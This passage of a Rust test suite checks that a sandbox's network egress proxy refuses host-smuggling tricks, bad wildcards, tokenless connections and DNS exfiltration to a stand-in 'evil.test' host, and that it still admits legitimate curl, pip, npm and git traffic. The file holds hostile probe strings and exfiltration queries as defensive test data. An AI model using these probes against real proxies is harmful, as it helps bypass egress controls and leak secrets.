    assert_eq!(probe(&off, "socks-addr-v6"), "REPLY 2");
    assert_violation(&env, &id, "169.254.169.254:80", "numeric-host");
    assert_eq!(web.seen(), 0, "{:?}", web.requests());
    // `show --net` lists the denylist.
    env.run(["show", &id, "--net"])
        .ok()
        .stdout_has("metadata.google.internal")
        .stdout_has("169.254.169.254");
}

// ---------------------------------------------------------------------------------------
// 24. Smuggling: names that disagree
// ---------------------------------------------------------------------------------------

#[test]
fn attack_24_smuggled_hosts_are_refused() {
    let names = ["allowed.test", "evil.test"];
    let (env, id) = setup(&pins(&names, true));
    let web = Web::start("web");
    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
    let files = env.root.join("files");
    fs::create_dir_all(&files).unwrap();
    fs::write(files.join("index.html"), "tls index\n").unwrap();
    let tls = FileServer::start(&files, &certs, &env.root.join("tls.log"));
    let (p, t) = (web.port, tls.https);
    let probes = [
        format!("port-smuggle|http|http://allowed.test:443.evil.test:{p}/|allowed.test:{p}"),
        format!("port-smuggle-connect|connect|allowed.test:443.evil.test:{p}|-"),
        format!("port-smuggle-socks|socks|domain|allowed.test:443.evil.test|{p}"),
        format!("userinfo|http|http://allowed.test@evil.test:{p}/|allowed.test:{p}"),
        format!("host-disagrees|http|http://allowed.test:{p}/|evil.test:{p}"),
        format!("host-disagrees-port|http|http://allowed.test:{p}/|allowed.test:1"),
        format!("connect-host-disagrees|connect|allowed.test:{p}|evil.test:{p}"),
        format!("tunnel-host-disagrees|connect|allowed.test:{p}|-|evil.test"),
        format!("tunnel-host-agrees|connect|allowed.test:{p}|-|allowed.test"),
        format!("sni-disagrees|connect|allowed.test:{t}|-|-|evil.test"),
        format!("sni-disagrees-socks|socks|domain|allowed.test|{t}|2|-|1|evil.test"),
        format!("sni-agrees-socks|socks|domain|allowed.test|{t}|2|-|1|allowed.test"),
        format!("sni-agrees|connect|allowed.test:{t}|-|-|allowed.test"),
        format!("sni-agrees-case-dot|connect|ALLOWED.Test.:{t}|-|-|allowed.test"),
        format!("evil-case-dot|http|http://EVIL.Test.:{p}/|EVIL.Test.:{p}"),
        format!("twin-case-dot|http|http://ALLOWED.test.:{p}/|ALLOWED.test.:{p}"),
        format!("percent|http|http://allowed%2etest:{p}/|allowed.test:{p}"),
        format!("nul|connect|allowed.test\u{1}.evil.test:{p}|-"),
    ];
    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
    let run = py(&env, &id, &["allowed.test"], PROBES, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for label in [
        "port-smuggle",
        "port-smuggle-connect",
        "userinfo",
        "host-disagrees",
        "host-disagrees-port",
        "connect-host-disagrees",
        "evil-case-dot",
        "percent",
        "nul",
    ] {
        let got = probe(&run, label);
        assert!(got.starts_with("HTTP/1.1 40"), "{label}: {got}");
    }
    assert_eq!(probe(&run, "port-smuggle-socks"), "REPLY 2");
    assert!(probe(&run, "host-disagrees").contains("rule: host-mismatch"));
    assert!(probe(&run, "connect-host-disagrees").contains("HTTP/1.1 403"));
    // Inside an accepted tunnel the first request's Host, and a ClientHello's server
    // name, must still name the tunnel's host: the proxy closes the tunnel otherwise.
    let tunnel = probe(&run, "tunnel-host-disagrees");
    assert!(
        tunnel.starts_with("TUNNEL") && !tunnel.contains("hello"),
        "{tunnel}"
    );
    assert!(probe(&run, "tunnel-host-agrees").contains("hello from web"));
    assert!(
        probe(&run, "sni-disagrees").starts_with("TLS-FAILED"),
        "{}",
        probe(&run, "sni-disagrees")
    );
    assert!(
        probe(&run, "sni-agrees").contains("tls index"),
        "{}",
        probe(&run, "sni-agrees")
    );
    assert!(probe(&run, "sni-agrees-case-dot").contains("tls index"));
    assert!(
        probe(&run, "sni-disagrees-socks").starts_with("REPLY 0 TLS-FAILED"),
        "{}",
        probe(&run, "sni-disagrees-socks")
    );
    assert!(probe(&run, "sni-agrees-socks").contains("tls index"));
    assert!(probe(&run, "twin-case-dot").contains("hello from web"));
    assert_violation(&env, &id, &format!("allowed.test:{p}"), "host-mismatch");
    assert_violation(&env, &id, &format!("allowed.test:{t}"), "host-mismatch");
    assert_violation(&env, &id, &format!("EVIL.Test.:{p}"), "allowlist");
    // What reached the servers: only the agreeing twins.
    for r in web.requests() {
        assert!(
            r.contains("Host: allowed.test") || r.contains("Host: ALLOWED.test."),
            "{r}"
        );
        assert!(!r.to_ascii_lowercase().contains("evil"), "{r}");
    }
    assert_eq!(web.requests().len(), 2, "{:?}", web.requests());
    assert!(!tls.log().contains("evil"), "{}", tls.log());
    // curl over CONNECT and SOCKS names the same host in the target and the SNI.
    let curl = sh(
        &env,
        &id,
        &["allowed.test"],
        &format!("curl -sS --cacert tls/ca.pem https://allowed.test:{t}/ && curl -sS --cacert tls/ca.pem -x \"$ALL_PROXY\" https://allowed.test:{t}/"),
        &[],
    );
    assert_eq!(curl.stdout, "tls index\ntls index\n", "{}", curl.stderr);
}

// ---------------------------------------------------------------------------------------
// 25. Wildcards
// ---------------------------------------------------------------------------------------

#[test]
fn attack_25_wildcards_admit_exactly_their_form() {
    let admitted = [
        "api.wild.test",
        "a.b.wild.test",
        "bedrock.us-east-1.cloud.test",
    ];
    let refused = [
        "wild.test",
        "evilwild.test",
        "wild.test.evil.test",
        "api.wild.test.evil.test",
        "bedrock.cloud.test",
        "bedrock.a.b.cloud.test",
        "xbedrock.us-east-1.cloud.test",
    ];
    let all: Vec<&str> = admitted.iter().chain(refused.iter()).copied().collect();
    let (env, id) = setup(&pins(&all, true));
    let web = Web::start("web");
    let p = web.port;
    let mut probes = Vec::new();
    for n in &all {
        probes.push(format!("{n}|http|http://{n}:{p}/|{n}:{p}"));
        probes.push(format!("{n}-socks|socks|domain|{n}|{p}"));
    }
    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
    let run = py(
        &env,
        &id,
        &["*.wild.test", "bedrock.*.cloud.test"],
        PROBES,
        &args,
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for n in admitted {
        assert!(
            probe(&run, n).contains("hello from web"),
            "{n}: {}",
            probe(&run, n)
        );
        assert!(
            probe(&run, &format!("{n}-socks")).contains("hello from web"),
            "{n}"
        );
    }
    for n in refused {
        let got = probe(&run, n);
        assert!(
            got.starts_with("HTTP/1.1 403") && got.contains("rule: allowlist"),
            "{n}: {got}"
        );
        assert_eq!(probe(&run, &format!("{n}-socks")), "REPLY 2", "{n}");
        assert_violation(&env, &id, &format!("{n}:{p}"), "allowlist");
    }
    assert_eq!(web.seen(), 2 * admitted.len(), "{:?}", web.requests());
    // A pattern with a * anywhere else is refused before anything runs.
    for bad in [
        "*",
        "a*.wild.test",
        "*.*.wild.test",
        "wild.*",
        "wild.test/8",
    ] {
        env.run(["run", &id, "--allow-domain", bad, "--", "true"])
            .fails(2);
    }
}

// ---------------------------------------------------------------------------------------
// 26. The proxy needs this run's token
// ---------------------------------------------------------------------------------------

/// Host processes whose command line contains `needle`.
fn host_pids_with(needle: &str) -> Vec<u32> {
    let mut out = Vec::new();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let cmd = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmd).contains(needle) {
            out.push(pid);
        }
    }
    out
}

#[test]
fn attack_26_the_proxy_needs_this_runs_token() {
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let web = Web::start("web");
    let p = web.port;
    // From inside, without the token or with a wrong one.
    let script = format!(
        r#"
echo "NONE $(curl -s -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:3128 http://allowed.test:{p}/)"
echo "WRONG $(curl -s -o /dev/null -w '%{{http_code}}' -x http://gitloop:wrong@127.0.0.1:3128 http://allowed.test:{p}/)"
echo "CONNECT-NONE $(curl -s -o /dev/null -w '%{{http_connect}}' -x http://127.0.0.1:3128 -p http://allowed.test:{p}/)"
python3 -c "$1" 'noauth|socks|domain|allowed.test|{p}|0' 'wrongpw|socks|domain|allowed.test|{p}|2|nottoken' 'twin|socks|domain|allowed.test|{p}'
"#
    );
    let run = sh(&env, &id, &["allowed.test"], &script, &[PROBES]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout_has("NONE 407\n")
        .stdout_has("WRONG 407\n")
        .stdout_has("CONNECT-NONE 407\n");
    assert_eq!(probe(&run, "noauth"), "METHOD-REFUSED 05ff");
    assert_eq!(probe(&run, "wrongpw"), "AUTH-REFUSED 0101");
    assert!(probe(&run, "twin").contains("hello from web"));
    assert_violation(&env, &id, &format!("allowed.test:{p}"), "credentials");
    assert_eq!(web.seen(), 1);

    // From outside: another local process. Nothing on the host's filesystem leads to the
    // proxy (no socket file anywhere in the workspace), and a process that enters the
    // sandbox's network namespace still needs the token.
    let nsenter = require("nsenter", "util-linux");
    let marker = format!("glk-egress-{}-{}", std::process::id(), p);
    let wd = env.workdir(&id);
    let mut live = env
        .command()
        .current_dir(&env.root)
        .args([
            "run",
            "-q",
            &id,
            "--allow-domain",
            "allowed.test",
            "--",
            "sh",
            "-c",
        ])
        .arg("touch .ready; while [ ! -e .go ]; do sleep 0.05; done")
        .arg(&marker)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while !wd.join(".ready").exists() {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "the sandbox did not start"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let mut sockets = Vec::new();
    let mut stack = vec![env.root.clone()];
    while let Some(dir) = stack.pop() {
        for e in fs::read_dir(&dir).into_iter().flatten().flatten() {
            let Ok(t) = e.file_type() else { continue };
            if t.is_dir() {
                stack.push(e.path());
            } else if std::os::unix::fs::FileTypeExt::is_socket(&t) {
                sockets.push(e.path());
            }
        }
    }
    let own_net = fs::read_link("/proc/self/ns/net").unwrap();
    let inside = host_pids_with(&marker)
        .into_iter()
        .find(|pid| fs::read_link(format!("/proc/{pid}/ns/net")).is_ok_and(|n| n != own_net))
        .expect("a process of the sandbox");
    let outsider = |proxy: &str| {
        let out = Command::new(&nsenter)
            .args([
                "-t",
                &inside.to_string(),
                "-U",
                "-n",
                "--preserve-credentials",
                "curl",
                "-s",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "-m",
                "10",
                "-x",
                proxy,
            ])
            .arg(format!("http://allowed.test:{p}/"))
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let none = outsider("http://127.0.0.1:3128");
    let wrong = outsider("http://gitloop:0000@127.0.0.1:3128");
    fs::write(wd.join(".go"), "").unwrap();
    let _ = live.wait();
    assert_eq!(sockets, Vec::<PathBuf>::new(), "a socket file on the host");
    assert_eq!(none, "407", "a local process without the token");
    assert_eq!(wrong, "407", "a local process with a wrong token");
    assert_eq!(web.seen(), 1);
}

// ---------------------------------------------------------------------------------------
// 27. DNS goes nowhere
// ---------------------------------------------------------------------------------------

#[test]
fn attack_27_names_do_not_resolve_inside() {
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let udp = UdpCanary::start();
    let web = Web::start("web");
    let code = r#"
import socket, struct, sys
udp_port, port = int(sys.argv[1]), int(sys.argv[2])
try:
    conf = open("/etc/resolv.conf").read()
except OSError:
    conf = ""
print("NAMESERVERS", len([l for l in conf.splitlines() if l.strip().startswith("nameserver")]))
for name in ["allowed.test", "exfil-c2VjcmV0.evil.test", "github.com"]:
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 80))
    except socket.gaierror as e:
        print("UNRESOLVED", name)
# A DNS query by hand, to the host's loopback port: the sandbox's loopback is its own.
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
try:
    s.sendto(q, ("127.0.0.1", udp_port))
    s.recvfrom(512)
    print("ESCAPED: a DNS answer")
except OSError as e:
    print("NO-ANSWER", type(e).__name__)
"#;
    let run = py(
        &env,
        &id,
        &["allowed.test"],
        code,
        &[&udp.port().to_string(), &web.port.to_string()],
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(!run.stdout.contains("ESCAPED"), "{}", run.stdout);
    assert!(
        !run.stdout.lines().any(|l| l.starts_with("RESOLVED")),
        "{}",
        run.stdout
    );
    run.stdout_has("NAMESERVERS 0")
        .stdout_has("UNRESOLVED allowed.test")
        .stdout_has("UNRESOLVED exfil-c2VjcmV0.evil.test")
        .stdout_has("UNRESOLVED github.com");
    assert!(!udp.received(), "a datagram reached the host");
    // getent, and UDP through the SOCKS proxy (UDP ASSOCIATE): refused too.
    let more = sh(
        &env,
        &id,
        &["allowed.test"],
        "getent hosts allowed.test || echo GETENT-FAILED; python3 -c \"$1\" 'udp|socks|domain|allowed.test|53|2|-|3'",
        &[PROBES],
    );
    more.stdout_has("GETENT-FAILED");
    assert_eq!(probe(&more, "udp"), "REPLY 7");
    assert_violation(&env, &id, "allowed.test:53", "unsupported");
    // Positive twin: names resolve through the proxy.
    sh(
        &env,
        &id,
        &["allowed.test"],
        &format!("curl -sS http://allowed.test:{}/", web.port),
        &[],
    )
    .ok()
    .stdout_has("hello from web");
}

// ---------------------------------------------------------------------------------------
// Positive twins: what legitimate work needs
// ---------------------------------------------------------------------------------------

#[test]
fn proxy_is_the_default_and_show_net_lists_the_allowlist() {
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let record = fs::read_to_string(env.loop_dir(&id).join("loop.toml")).unwrap();
    assert!(record.contains("network = \"proxy\""), "{record}");
    let run = env.run(["run", &id, "--", "true"]).ok();
    assert!(
        run.stderr
            .starts_with("git-loop: sandbox bwrap · net proxy ("),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains(" domains) · "), "{}", run.stderr);
    let profile = env.write_profile("[network]\nallow_domains = [\"team.example\"]\n");
    env.run([
        "config",
        "set",
        "network.allow_domains",
        "[\"mine.example\", \"*.mine.example\"]",
    ])
    .ok();
    let show = env.run(["show", &id, "--net"]).ok();
    show.stdout_has("api.anthropic.com")
        .stdout_has("baseline (LLM providers)")
        .stdout_has("github.com")
        .stdout_has("registry.npmjs.org")
        .stdout_has("pypi.org")
        .stdout_has("team.example")
        .stdout_has("profile default")
        .stdout_has("*.mine.example")
        .stdout_has("config (personal")
        .stdout_has("pinned: allowed.test -> 127.0.0.1")
        .stdout_has("allowed range: 127.0.0.0/8");
    let json = env.run(["show", &id, "--net", "--json"]).ok().json();
    let allow = json["allow"].as_array().unwrap();
    assert!(allow
        .iter()
        .any(|a| a["domain"] == "team.example" && a["source"] == "profile default"));
    assert!(json["deny_addresses"]
        .as_array()
        .unwrap()
        .iter()
        .any(|d| d["address"] == "169.254.169.254"));
    // The status line counts every source.
    let run = env
        .run(["run", &id, "--allow-domain", "extra.example", "--", "true"])
        .ok();
    let count = |r: &Run| -> usize {
        r.stderr
            .split("net proxy (")
            .nth(1)
            .and_then(|s| s.split(' ').next())
            .and_then(|n| n.parse().ok())
            .unwrap()
    };
    assert_eq!(count(&run), allow.len() + 1);
    // A bad entry in the profile is reported with where it is.
    fs::write(&profile, "[network]\nallow_domains = [\"not a domain\"]\n").unwrap();
    env.run(["run", &id, "--", "true"])
        .fails(1)
        .stderr_has("sandbox.toml");
    // The other modes stay.
    fs::remove_file(&profile).unwrap();
    env.run(["run", &id, "--net", "none", "--", "true"])
        .ok()
        .stderr_has("net none");
    // A missing command fails as in the other modes: the sandbox's init names it and
    // exits 127, as a shell does.
    for net in ["proxy", "none"] {
        let missing = env.run(["run", &id, "--net", net, "--", "no-such-command-here"]);
        assert_eq!(missing.code, 127, "{}", missing.stderr);
        missing.stderr_has("no-such-command-here: No such file or directory");
    }
}

#[test]
fn curl_reaches_an_allowed_host_over_http_https_and_socks() {
    let names = ["allowed.test"];
    let (env, id) = setup(&pins(&names, true));
    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
    let files = env.root.join("files");
    fs::create_dir_all(&files).unwrap();
    fs::write(files.join("hello.txt"), "hello over the proxy\n").unwrap();
    let server = FileServer::start(&files, &certs, &env.root.join("files.log"));
    let (h, t) = (server.http, server.https);
    let script = format!(
        r#"
echo "HTTP $(curl -sS http://allowed.test:{h}/hello.txt)"
echo "HTTPS $(curl -sS --cacert tls/ca.pem https://allowed.test:{t}/hello.txt)"
echo "SOCKS $(curl -sS -x "$ALL_PROXY" http://allowed.test:{h}/hello.txt)"
echo "SOCKS-TLS $(curl -sS --cacert tls/ca.pem -x "$ALL_PROXY" https://allowed.test:{t}/hello.txt)"
"#
    );
    let run = sh(&env, &id, &["allowed.test"], &script, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for label in ["HTTP", "HTTPS", "SOCKS", "SOCKS-TLS"] {
        run.stdout_has(&format!("{label} hello over the proxy"));
    }
    assert!(
        violations(&env, &id).is_empty(),
        "{:?}",
        violations(&env, &id)
    );
    assert_eq!(server.log().lines().count(), 4, "{}", server.log());
}

/// A wheel pip can download: a zip with the dist-info files.
const MAKE_WHEEL: &str = r#"
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("demo/__init__.py", "")
    z.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
    z.writestr("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("demo-1.0.dist-info/RECORD", "")
"#;

#[test]
fn pip_and_npm_style_clients_use_https_proxy() {
    let names = ["pypi.test", "npm.test"];
    // The real registries of the baseline are pinned to loopback too: a tool that looked
    // past its flags would hit a closed local port, never the internet.
    let mut all = names.to_vec();
    all.extend(["pypi.org", "files.pythonhosted.org", "registry.npmjs.org"]);
    let (env, id) = setup(&pins(&all, true));
    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
    let files = env.root.join("registry");
    fs::create_dir_all(files.join("simple/demo")).unwrap();
    let wheel = files.join("simple/demo/demo-1.0-py3-none-any.whl");
    let status = Command::new("python3")
        .args(["-c", MAKE_WHEEL])
        .arg(&wheel)
        .status()
        .unwrap();
    assert!(status.success());
    fs::write(
        files.join("simple/demo/index.html"),
        "<html><body><a href=\"demo-1.0-py3-none-any.whl\">demo-1.0-py3-none-any.whl</a></body></html>\n",
    )
    .unwrap();
    let server = FileServer::start(&files, &certs, &env.root.join("registry.log"));
    let t = server.https;
    fs::write(
        files.join("npm-demo"),
        format!(
            r#"{{"name":"npm-demo","dist-tags":{{"latest":"1.2.3"}},"versions":{{"1.2.3":{{"name":"npm-demo","version":"1.2.3","dist":{{"tarball":"https://npm.test:{t}/npm-demo-1.2.3.tgz"}}}}}}}}"#
        ),
    )
    .unwrap();
    // pip as installed on the system (requests/urllib3 honour HTTPS_PROXY), and Python's
    // own urllib the same way.
    let has_pip = Command::new("/usr/bin/python3")
        .args(["-m", "pip", "--version"])
        .output()
        .is_ok_and(|o| o.status.success());
    // Needed, never skipped: its absence fails with the fix.
    assert!(
        has_pip,
        "pip is needed for this test: sudo apt-get install python3-pip (.ci/run does)"
    );
    let pip = format!(
        "/usr/bin/python3 -m pip download --disable-pip-version-check --no-cache-dir --no-deps \
         --index-url https://pypi.test:{t}/simple/ --cert tls/ca.pem -d /tmp/dl demo==1.0 2>&1 | tail -n 3; ls /tmp/dl"
    );
    let run = sh(&env, &id, &["pypi.test"], &pip, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout_has("demo-1.0-py3-none-any.whl");
    let urllib = format!(
        "import ssl, urllib.request; print('URLLIB', urllib.request.urlopen('https://pypi.test:{t}/simple/demo/', context=ssl.create_default_context(cafile='tls/ca.pem')).status)"
    );
    py(&env, &id, &["pypi.test"], &urllib, &[])
        .ok()
        .stdout_has("URLLIB 200");
    require("npm", "npm");
    {
        let npm = format!(
            "NO_UPDATE_NOTIFIER=1 npm view npm-demo version --registry https://npm.test:{t}/ --cafile tls/ca.pem \
             --userconfig /dev/null --no-update-notifier --no-audit --no-fund 2>&1"
        );
        let run = sh(&env, &id, &["npm.test"], &npm, &[]);
        assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
        run.stdout_has("1.2.3");
    }
    let log = server.log();
    assert!(log.contains("https pypi.test"), "{log}");
    assert!(
        violations(&env, &id).is_empty(),
        "{:?}",
        violations(&env, &id)
    );
}

#[test]
fn git_clones_over_http_and_https_through_the_proxy() {
    let names = ["git.test"];
    let (env, id) = setup(&pins(&names, true));
    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
    // A bare repository served by a dumb HTTP server.
    let served = env.root.join("served");
    fs::create_dir_all(&served).unwrap();
    let src = env.repo("upstream");
    env.git(
        &served,
        ["clone", "-q", "--bare", src.to_str().unwrap(), "repo.git"],
    );
    env.git(&served.join("repo.git"), ["update-server-info"]);
    let server = FileServer::start(&served, &certs, &env.root.join("git.log"));
    let script = format!(
        r#"
git clone -q http://git.test:{h}/repo.git /tmp/plain && git -C /tmp/plain log --oneline | sed 's/^/PLAIN /'
git -c http.sslCAInfo=tls/ca.pem clone -q https://git.test:{t}/repo.git /tmp/tls && git -C /tmp/tls log --oneline | sed 's/^/TLS /'
"#,
        h = server.http,
        t = server.https
    );
    let run = sh(&env, &id, &["git.test"], &script, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout_has("PLAIN ")
        .stdout_has(" first")
        .stdout_has("TLS ");
    assert!(server.log().contains("info/refs"), "{}", server.log());
    assert!(
        violations(&env, &id).is_empty(),
        "{:?}",
        violations(&env, &id)
    );
}

const SSHD_CONFIG: &str = "ListenAddress 127.0.0.1
Port {port}
HostKey {dir}/host_key
AuthorizedKeysFile {dir}/authorized_keys
PidFile none
StrictModes no
UsePAM no
PasswordAuthentication no
KbdInteractiveAuthentication no
PermitRootLogin prohibit-password
AllowUsers {user}
LogLevel ERROR
";

/// Kills a child process of the test when dropped.
/// Is something listening on TCP `port` of the network namespace `pid` is in? (Read
/// from /proc, so it works for a namespace the test is not in.)
fn listening(pid: u32, port: u16) -> bool {
    let want = format!(":{port:04X} ");
    ["tcp", "tcp6"].iter().any(|f| {
        fs::read_to_string(format!("/proc/{pid}/net/{f}"))
            .unwrap_or_default()
            .lines()
            .any(|l| {
                let cols: Vec<&str> = l.split_whitespace().collect();
                cols.len() > 3 && format!("{} ", cols[1]).ends_with(&want) && cols[3] == "0A"
            })
    })
}

/// A test sshd on 127.0.0.1:`port` (of the network namespace `prefix` enters, if any),
/// letting the test's own user in with a key the loop's workdir holds (`id_test`), and
/// a bare repository to clone. `known_hosts` in the workdir names it as `names`.
struct Sshd {
    _daemon: Kill,
    user: String,
    repo: PathBuf,
}

fn start_sshd(env: &TestEnv, id: &str, port: u16, prefix: &[String], names: &[&str]) -> Sshd {
    let sshd = require("sshd", "openssh-server");
    let dir = env.root.join(format!("sshd-{port}"));
    fs::create_dir_all(&dir).unwrap();
    let keygen = |path: &Path| {
        if path.exists() {
            return;
        }
        let out = Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(path)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    keygen(&dir.join("host_key"));
    let wd = env.workdir(id);
    keygen(&wd.join("id_test"));
    fs::set_permissions(wd.join("id_test"), fs::Permissions::from_mode(0o600)).unwrap();
    fs::copy(wd.join("id_test.pub"), dir.join("authorized_keys")).unwrap();
    // The user sshd logs in is this test's own (root on CI).
    let user = String::from_utf8(Command::new("id").arg("-un").output().unwrap().stdout)
        .unwrap()
        .trim()
        .to_string();
    // sshd needs its privilege-separation folder when started as root (a service
    // manager makes it at boot; a test machine may have none).
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        fs::create_dir_all("/run/sshd").unwrap();
    }
    let config = SSHD_CONFIG
        .replace("{port}", &port.to_string())
        .replace("{dir}", dir.to_str().unwrap())
        .replace("{user}", &user);
    fs::write(dir.join("sshd_config"), config).unwrap();
    let mut cmd = match prefix.split_first() {
        Some((first, rest)) => {
            let mut c = Command::new(first);
            c.args(rest).arg(&sshd);
            c
        }
        None => Command::new(&sshd),
    };
    let mut daemon = cmd
        .args(["-D", "-e", "-f"])
        .arg(dir.join("sshd_config"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while !listening(daemon.id(), port) {
        if let Ok(Some(status)) = daemon.try_wait() {
            let mut err = String::new();
            daemon
                .stderr
                .take()
                .unwrap()
                .read_to_string(&mut err)
                .unwrap();
            panic!("sshd exited ({status}): {err}");
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "sshd did not start"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let host_key = fs::read_to_string(dir.join("host_key.pub")).unwrap();
    let mut known = String::new();
    for n in names {
        let name = if port == 22 {
            n.to_string()
        } else {
            format!("[{n}]:{port}")
        };
        known.push_str(&format!("{name} {host_key}"));
    }
    fs::write(wd.join("known_hosts"), known).unwrap();
    let served = env.root.join("served");
    if !served.join("repo.git").exists() {
        fs::create_dir_all(&served).unwrap();
        let src = env.repo("upstream");
        env.git(
            &served,
            ["clone", "-q", "--bare", src.to_str().unwrap(), "repo.git"],
        );
    }
    Sshd {
        _daemon: Kill(daemon),
        user,
        repo: served.join("repo.git"),
    }
}

/// A shell script that clones `url` with git's own GIT_SSH_COMMAND from git-loop (the
/// ProxyCommand through SOCKS), the test's key and known hosts added; prints `LABEL `
/// before each line of the clone's log, or of its errors.
fn ssh_clone(label: &str, url: &str) -> String {
    format!(
        r#"
export GIT_SSH_COMMAND="${{GIT_SSH_COMMAND%% -i *}} -i $PWD/id_test -o UserKnownHostsFile=$PWD/known_hosts -o StrictHostKeyChecking=yes -o BatchMode=yes"
rm -rf /tmp/{label}
if git clone -q {url} /tmp/{label} 2>/tmp/{label}.err; then git -C /tmp/{label} log --oneline | sed 's/^/{label} /'; else sed 's/^/{label} /' /tmp/{label}.err; fi
"#
    )
}

#[test]
fn git_clones_over_ssh_through_socks() {
    let names = ["git.test"];
    let (env, id) = setup(&pins(&names, true));
    let port = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let sshd = start_sshd(&env, &id, port, &[], &names);
    let (user, repo) = (&sshd.user, sshd.repo.display());
    let script = format!(
        "case \"$GIT_SSH_COMMAND\" in *__connect*) echo \"SSH-COMMAND set\";; esac\n{}{}",
        ssh_clone("SSH", &format!("ssh://{user}@git.test:{port}{repo}")),
        ssh_clone("EVIL", &format!("ssh://{user}@evil.test:{port}{repo}"))
    );
    // ssh is neither TLS nor HTTP: without the operator's leave, the tunnel is refused
    // at its first bytes.
    let run = sh(&env, &id, &["git.test"], &script, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout_has("SSH-COMMAND set");
    assert!(!run.stdout.contains(" first"), "{}", run.stdout);
    assert_violation(&env, &id, &format!("git.test:{port}"), "raw-tcp");
    // The operator allows raw TCP to that host and port.
    write_operator(
        &env,
        &format!(
            "[network]\nallow_cidrs = [\"127.0.0.0/8\"]\nallow_raw_tcp = [\"git.test:{port}\"]\n\n\
             [network.hosts]\n\"git.test\" = \"127.0.0.1\"\n"
        ),
    );
    let run = sh(&env, &id, &["git.test"], &script, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout_has("SSH ")
        .stdout_has(" first")
        .stdout_has("EVIL error: cannot connect to evil.test");
    assert_violation(&env, &id, &format!("evil.test:{port}"), "allowlist");
}

// ---------------------------------------------------------------------------------------
// 38. Every request checked: keep-alive connections, pipelines, tunnels, first bytes
// ---------------------------------------------------------------------------------------

/// An HTTP/1.1 server on 127.0.0.1 that keeps connections open, reads each request's body
/// (Content-Length or chunked) and records `METHOD PATH host=HOST body=BODY` in arrival
/// order; it answers `NAME METHOD PATH BODY` with a Content-Length.
struct KeepAlive {
    port: u16,
    log: Arc<Mutex<Vec<String>>>,
    connections: Arc<AtomicUsize>,
}

impl KeepAlive {
    fn start(name: &'static str) -> KeepAlive {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let log = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(AtomicUsize::new(0));
        let (l, c) = (log.clone(), connections.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                c.fetch_add(1, Ordering::SeqCst);
                let l = l.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(20)));
                    let mut w = stream.try_clone().unwrap();
                    let mut r = std::io::BufReader::new(stream);
                    while let Some((line, headers, body)) = read_request(&mut r) {
                        let mut parts = line.split(' ');
                        let (method, path) =
                            (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
                        let host = headers.get("host").cloned().unwrap_or_default();
                        let body = String::from_utf8_lossy(&body).into_owned();
                        l.lock()
                            .unwrap()
                            .push(format!("{method} {path} host={host} body={body}"));
                        let answer = format!("{name} {method} {path} {body}");
                        let close = headers
                            .get("connection")
                            .is_some_and(|v| v.eq_ignore_ascii_case("close"));
                        // A HEAD answer names the length of the body it does not send.
                        let body = if method == "HEAD" {
                            ""
                        } else {
                            answer.as_str()
                        };
                        let _ = write!(
                            w,
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n{}\r\n{body}",
                            answer.len(),
